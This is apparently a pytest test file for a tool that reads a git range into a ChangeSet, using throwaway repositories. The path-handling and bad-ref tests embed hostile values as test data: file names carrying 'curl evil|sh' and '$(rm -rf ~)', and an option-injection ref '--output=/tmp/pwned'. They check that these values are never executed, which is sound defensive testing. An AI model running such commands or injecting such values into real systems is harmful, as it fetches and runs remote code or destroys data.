"""planner.change.git: a real git range read into a ChangeSet, with real throwaway repositories."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from support.gitrepo import GIT_ENV, commit, git, make_repo

from planner.change.git import (
    MAX_CONTENT_BYTES,
    parse_cat_file,
    parse_log,
    parse_numstat,
    parse_raw,
    read_git_change,
)
from planner.exceptions import ChangeError, GitError

ROUTES_V1 = "from fastapi import APIRouter\n\nrouter = APIRouter()\n"
ROUTES_V2 = ROUTES_V1 + "\n\n@router.get('/orders')\ndef list_orders():\n    return []\n"
OLD_LEGACY = "OLD = 1\nOLDER = 2\n"
UTIL = "".join(f"def helper_{i}():\n    return {i}\n\n" for i in range(10))


def python_service(tmp_path: Path) -> Path:
    """A small Python service on main, with a feature branch checked out."""
    repo = make_repo(
        tmp_path,
        {
            "pyproject.toml": "[project]\nname = 'orders'\n",
            "src/orders/__init__.py": "",
            "src/orders/api/routes.py": ROUTES_V1,
            "src/orders/util.py": UTIL,
            "src/orders/legacy.py": OLD_LEGACY,
            "README.md": "# orders\n",
        },
    )
    git(repo, "checkout", "-q", "-b", "feature")
    return repo


def test_reads_kinds_renames_line_counts_and_contents(tmp_path: Path) -> None:
    repo = python_service(tmp_path)
    base = git(repo, "rev-parse", "main")
    commit(repo, {"src/orders/api/routes.py": ROUTES_V2, "tests/test_orders.py": "x = 1\n"}, "a")
    commit(
        repo,
        {
            "src/orders/util.py": None,
            # the same text plus one line: git sees a rename with 1 added line
            "src/orders/helpers.py": UTIL + "# moved\n",
            "src/orders/legacy.py": None,
        },
        "b",
    )
    change = read_git_change(str(repo), base, "feature")
    by_path = {f.path: f for f in change.files}
    assert set(by_path) == {
        "src/orders/api/routes.py",
        "tests/test_orders.py",
        "src/orders/helpers.py",
        "src/orders/legacy.py",
    }
    routes = by_path["src/orders/api/routes.py"]
    # ROUTES_V2 appends 5 lines: two blank, the decorator, the def and its return
    assert (routes.change, routes.added_lines, routes.deleted_lines) == ("modified", 5, 0)
    assert routes.content == ROUTES_V2
    assert routes.base_content == ROUTES_V1
    renamed = by_path["src/orders/helpers.py"]
    assert (renamed.change, renamed.old_path) == ("renamed", "src/orders/util.py")
    assert (renamed.added_lines, renamed.deleted_lines) == (1, 0)
    legacy = by_path["src/orders/legacy.py"]
    assert (legacy.change, legacy.content, legacy.base_content) == ("deleted", None, OLD_LEGACY)
    assert (legacy.added_lines, legacy.deleted_lines) == (0, 2)
    added = by_path["tests/test_orders.py"]
    assert (added.change, added.base_content, added.content) == ("added", None, "x = 1\n")
    assert change.source == "git"
    assert change.base == base
    assert change.head == git(repo, "rev-parse", "feature")
    assert "src/orders/helpers.py" in change.repo_files
    assert "src/orders/util.py" not in change.repo_files
    assert all(f.integrated and not f.behind_flag for f in change.files)


def test_commits_are_oldest_first_without_merges(tmp_path: Path) -> None:
    repo = python_service(tmp_path)
    first = commit(repo, {"a.py": "a = 1\n"}, "feat: first")
    second = commit(repo, {"b.py": "b = 1\n"}, "fix: second; with `backticks` and $(dollar)")
    git(repo, "checkout", "-q", "-b", "side", first)
    side = commit(repo, {"c.py": "c = 1\n"}, "side work")
    git(repo, "checkout", "-q", "feature")
    git(repo, "merge", "-q", "--no-ff", "-m", "merge side", "side")
    change = read_git_change(str(repo), "main", "feature")
    shas = [c.sha for c in change.commits]
    assert shas.index(first) < shas.index(second)
    assert shas.index(first) < shas.index(side)
    assert len(shas) == 3  # the merge commit itself is left out
    subjects = {c.sha: c.subject for c in change.commits}
    assert subjects[second] == "fix: second; with `backticks` and $(dollar)"


def _commit_at(repo: Path, files: dict[str, str], message: str, when: str) -> str:
    """Commit ``files`` with committer date ``when`` (a skewed clock)."""
    for rel, text in files.items():
        (repo / rel).write_text(text, encoding="utf-8")
    git(repo, "add", "-A")
    env = {**GIT_ENV, "GIT_COMMITTER_DATE": when}
    subprocess.run(["git", "-C", str(repo), "commit", "-q", "-m", message], env=env, check=True)
    return git(repo, "rev-parse", "HEAD")


def test_commits_are_parents_first_even_with_a_skewed_clock(tmp_path: Path) -> None:
    # x is a parent of both y (committed on a machine whose clock was behind) and z; the
    # date-ordered walk shows x before y, so reverting "newest first" would undo x before y,
    # and git revert stops on a conflict. Every commit must come after all its parents.
    repo = python_service(tmp_path)
    x = _commit_at(repo, {"x.py": "x = 1\n"}, "x", "2026-01-05T12:00:00+00:00")
    git(repo, "checkout", "-q", "-b", "side")
    z = _commit_at(repo, {"z.py": "z = 1\n"}, "z", "2026-01-05T13:00:00+00:00")
    git(repo, "checkout", "-q", "feature")
    y = _commit_at(repo, {"x.py": "x = 2\n"}, "y", "2026-01-05T11:00:00+00:00")
    git(repo, "merge", "-q", "--no-ff", "-m", "merge side", "side")
    shas = [c.sha for c in read_git_change(str(repo), "main", "feature").commits]
    assert set(shas) == {x, y, z}
    assert shas.index(x) < shas.index(y)
    assert shas.index(x) < shas.index(z)


def test_a_base_that_moved_on_is_diffed_from_the_merge_base(tmp_path: Path) -> None:
    # `--base origin/main` after main moved on: what main gained since the branch point is not
    # part of the change (git diff main...feature, as in a pull request), so it must not show
    # up as deleted by the change nor be listed for RESTORE.
    repo = python_service(tmp_path)
    fork = git(repo, "rev-parse", "main")
    commit(repo, {"src/orders/new.py": "n = 1\n"}, "feature work")
    git(repo, "checkout", "-q", "main")
    commit(repo, {"src/orders/auth/main_only.py": "m = 1\n"}, "main moved on")
    git(repo, "checkout", "-q", "feature")
    change = read_git_change(str(repo), "main", "feature")
    assert [(f.path, f.change) for f in change.files] == [("src/orders/new.py", "added")]
    assert change.base == fork
    assert [c.subject for c in change.commits] == ["feature work"]


def test_default_base_is_merge_base_with_main(tmp_path: Path) -> None:
    repo = python_service(tmp_path)
    fork = git(repo, "rev-parse", "main")
    commit(repo, {"feature.py": "f = 1\n"}, "feature work")
    git(repo, "checkout", "-q", "main")
    commit(repo, {"later_on_main.py": "m = 1\n"}, "main moved on")
    change = read_git_change(str(repo), None, "feature")
    assert change.base == fork
    assert [f.path for f in change.files] == ["feature.py"]


def test_default_base_prefers_origin_head_then_master(tmp_path: Path) -> None:
    repo = make_repo(tmp_path, {"a.txt": "a\n"})
    git(repo, "branch", "-m", "main", "trunk")
    root = git(repo, "rev-parse", "HEAD")
    git(repo, "update-ref", "refs/remotes/origin/trunk", root)
    git(repo, "symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/trunk")
    commit(repo, {"b.txt": "b\n"}, "work")
    assert read_git_change(str(repo), None).base == root

    other = make_repo(tmp_path, {"a.txt": "a\n"}, name="other")
    git(other, "branch", "-m", "main", "master")
    start = git(other, "rev-parse", "HEAD")
    git(other, "checkout", "-q", "-b", "topic")
    commit(other, {"b.txt": "b\n"}, "work")
    assert read_git_change(str(other), None, "topic").base == start


def test_a_subfolder_reads_the_whole_repository(tmp_path: Path) -> None:
    repo = python_service(tmp_path)
    commit(repo, {"src/orders/new.py": "n = 1\n", "README.md": "# orders v2\n"}, "both")
    change = read_git_change(str(repo / "src"), "main", "feature")
    # paths stay relative to the top of the work tree, as in every git command of a plan
    assert sorted(f.path for f in change.files) == ["README.md", "src/orders/new.py"]
    assert "pyproject.toml" in change.repo_files


def test_binary_files_have_no_content(tmp_path: Path) -> None:
    repo = python_service(tmp_path)
    (repo / "static").mkdir()
    (repo / "static/logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 10)
    commit(repo, {}, "logo")
    (f,) = read_git_change(str(repo), "main", "feature").files
    assert (f.path, f.change, f.content, f.added_lines, f.deleted_lines) == (
        "static/logo.png",
        "added",
        None,
        0,
        0,
    )


def test_latin1_text_is_decoded_and_huge_blobs_are_skipped(tmp_path: Path) -> None:
    repo = python_service(tmp_path)
    (repo / "legacy.sql").write_bytes("UPDATE t SET name = 'café';\n".encode("latin-1"))
    (repo / "dump.sql").write_text("-- big\n" + "x" * MAX_CONTENT_BYTES, encoding="utf-8")
    commit(repo, {}, "encodings and sizes")
    files = {f.path: f for f in read_git_change(str(repo), "main", "feature").files}
    assert files["legacy.sql"].content == "UPDATE t SET name = 'caf\ufffd';\n"
    assert files["dump.sql"].content is None
    assert files["dump.sql"].added_lines == 2  # line counts still come from git


def test_unusual_paths_are_kept_exactly(tmp_path: Path) -> None:
    repo = python_service(tmp_path)
    odd = ["src/x;curl evil|sh.js", "docs/naïve file.md", "src/$(rm -rf ~)/a b.py"]
    commit(repo, dict.fromkeys(odd, "x\n"), "odd names")
    change = read_git_change(str(repo), "main", "feature")
    assert sorted(f.path for f in change.files) == sorted(odd)
    assert all(f.content == "x\n" for f in change.files)


def test_many_files_are_read_with_one_blob_process(tmp_path: Path) -> None:
    repo = python_service(tmp_path)
    commit(repo, {f"pkg/m{i}.py": f"v = {i}\n" for i in range(300)}, "many")
    change = read_git_change(str(repo), "main", "feature")
    assert len(change.files) == 300
    assert {f.content for f in change.files} == {f"v = {i}\n" for i in range(300)}


@pytest.mark.parametrize(
    ("base", "head", "error", "match"),
    [
        # an unknown base or head ref names the ref
        ("nope", "feature", GitError, r"repo: unknown ref 'nope' \(not a commit\)$"),
        ("main", "nope", GitError, r"unknown ref 'nope'"),
        # a ref that looks like an option never reaches git as one
        ("--output=/tmp/pwned", "feature", GitError, r"unknown ref '--output=/tmp/pwned'"),
        # base == head: nothing changed
        ("feature", "feature", ChangeError, r"repo: empty range feature\.\.feature: no changed"),
    ],
)
def test_bad_refs_and_empty_ranges(
    tmp_path: Path, base: str, head: str, error: type[Exception], match: str
) -> None:
    repo = python_service(tmp_path)
    commit(repo, {"x.py": "x\n"}, "x")
    with pytest.raises(error, match=match):
        read_git_change(str(repo), base, head)
    assert not Path("/tmp/pwned").exists()


def test_head_on_main_with_default_base_is_an_empty_range(tmp_path: Path) -> None:
    repo = make_repo(tmp_path, {"a.txt": "a\n"})
    with pytest.raises(ChangeError, match=r"empty range merge-base of main and HEAD\.\.HEAD"):
        read_git_change(str(repo), None)


def test_not_a_repository(tmp_path: Path) -> None:
    (tmp_path / "plain").mkdir()
    with pytest.raises(GitError, match=r"plain: not a git repository$"):
        read_git_change(str(tmp_path / "plain"), None)
    with pytest.raises(GitError, match=r"missing: not a git repository \(no such folder\)"):
        read_git_change(str(tmp_path / "missing"), None)


def test_git_environment_of_a_hook_does_not_leak(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = python_service(tmp_path)
    commit(repo, {"x.py": "x\n"}, "x")
    other = make_repo(tmp_path, {"other.txt": "o\n"}, name="other")
    # as inside a hook of another repository
    monkeypatch.setenv("GIT_DIR", str(other / ".git"))
    monkeypatch.setenv("GIT_INDEX_FILE", str(other / ".git/index"))
    assert [f.path for f in read_git_change(str(repo), "main", "feature").files] == ["x.py"]


def test_no_default_branch(tmp_path: Path) -> None:
    repo = make_repo(tmp_path, {"a.txt": "a\n"})
    git(repo, "branch", "-m", "main", "trunk")
    with pytest.raises(GitError, match=r"no default branch \(origin/HEAD, main or master\)"):
        read_git_change(str(repo), None)


def test_unrelated_histories_have_no_merge_base(tmp_path: Path) -> None:
    repo = make_repo(tmp_path, {"a.txt": "a\n"})
    git(repo, "checkout", "-q", "--orphan", "imported")
    commit(repo, {"b.txt": "b\n"}, "unrelated root")
    with pytest.raises(GitError, match=r"main and 'imported' have no common ancestor; pass --base"):
        read_git_change(str(repo), None, "imported")


def test_git_missing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = make_repo(tmp_path, {"a.txt": "a\n"})
    monkeypatch.setenv("PATH", str(tmp_path / "empty-bin"))
    with pytest.raises(GitError, match=r"^git: not found on PATH"):
        read_git_change(str(repo), "main")


def test_parse_raw_and_numstat_handle_renames_and_submodules() -> None:
    a, b, z = "a" * 40, "b" * 40, "0" * 40
    raw = (
        f":100644 100644 {a} {b} R087\0old/name.py\0new/name.py\0"
        f":000000 100644 {z} {b} A\0added.py\0"
        f":160000 160000 {a} {b} M\0vendor/sub\0"
    )
    entries = parse_raw(raw)
    assert [(e.path, e.change, e.old_path) for e in entries] == [
        ("new/name.py", "renamed", "old/name.py"),
        ("added.py", "added", None),
        ("vendor/sub", "modified", None),
    ]
    assert (entries[1].old_blob, entries[1].new_blob) == (None, b)
    assert (entries[2].old_blob, entries[2].new_blob) == (None, None)
    numstat = "3\t1\t\x00old/name.py\x00new/name.py\x00-\t-\tlogo.png\x0010\t0\tadded.py\x00"
    assert parse_numstat(numstat) == {
        "new/name.py": (3, 1),
        "logo.png": (0, 0),
        "added.py": (10, 0),
    }


def test_parse_log_and_cat_file() -> None:
    a, b = "a" * 40, "b" * 40
    out = f"{a}\0first\0{b}\0second: x\u2028--hard\x1c\0"
    assert [(c.sha, c.subject) for c in parse_log(out)] == [
        (a, "first"),
        (b, "second: x\u2028--hard\x1c"),  # only NUL separates: no forged commit
    ]
    out = b"aaa blob 3\nab\n\nbbb missing\nccc blob 4\n\x00\x01\x02\x03\n"
    assert parse_cat_file(out) == {"aaa": "ab\n", "bbb": None, "ccc": None}


def test_hunks_are_the_changed_lines_with_their_line_numbers(tmp_path: Path) -> None:
    repo = make_repo(
        tmp_path,
        {
            "src/app.py": "a\nb\nc\nd\n",
            "src/old.py": "x = 1\ny = 2\nz = 3\n" + "".join(f"k{i} = {i}\n" for i in range(9)),
            'src/we"ird name.py': "q\n",
            "logo.bin": "\0png",
            "gone.py": "def f():\n    pass\n",
        },
    )
    base = git(repo, "rev-parse", "HEAD")
    git(repo, "mv", "src/old.py", "src/new.py")
    moved = (repo / "src/new.py").read_text()
    (repo / "src/new.py").write_text(moved.replace("y = 2\n", "y = 20\n") + "w = 4\n")
    (repo / "logo.bin").write_bytes(b"\0png2")
    commit(
        repo,
        {"src/app.py": "a\nB\nc\nd\ne\n", 'src/we"ird name.py': "q\nr\n", "gone.py": None},
        "edit",
    )
    change = read_git_change(str(repo), base, "HEAD")
    by_path = {f.path: f for f in change.files}
    app = by_path["src/app.py"].hunks
    assert app is not None
    # line 2 replaced, line 5 appended: numbers are those of base (removed) and head (added)
    assert [(h.old_start, h.removed, h.new_start, h.added) for h in app] == [
        (2, ("b",), 2, ("B",)),
        (4, (), 5, ("e",)),
    ]
    renamed = by_path["src/new.py"]
    assert renamed.old_path == "src/old.py"
    assert [(h.new_start, h.added) for h in renamed.hunks or ()] == [
        (2, ("y = 20",)),
        (13, ("w = 4",)),
    ]
    assert [h.added for h in by_path['src/we"ird name.py'].hunks or ()] == [("r",)]
    assert by_path["logo.bin"].hunks == ()  # binary: no lines
    assert [h.removed for h in by_path["gone.py"].hunks or ()] == [("def f():", "    pass")]
    # the hunks count what numstat counts
    for f in change.files:
        assert sum(len(h.added) for h in f.hunks or ()) == f.added_lines, f.path
        assert sum(len(h.removed) for h in f.hunks or ()) == f.deleted_lines, f.path


def test_a_type_change_still_pairs_every_file_with_its_hunks(tmp_path: Path) -> None:
    # a file turned into a symlink is one --raw entry but two patch sections
    repo = make_repo(tmp_path, {"link": "target\n", "b.py": "1\n"})
    base = git(repo, "rev-parse", "HEAD")
    (repo / "link").unlink()
    (repo / "link").symlink_to("b.py")
    commit(repo, {"b.py": "2\n"}, "symlink")
    files = {f.path: f for f in read_git_change(str(repo), base, "HEAD").files}
    assert [h.added for h in files["b.py"].hunks or ()] == [("2",)]
    assert files["link"].hunks is None  # not paired: unknown, never another file's lines
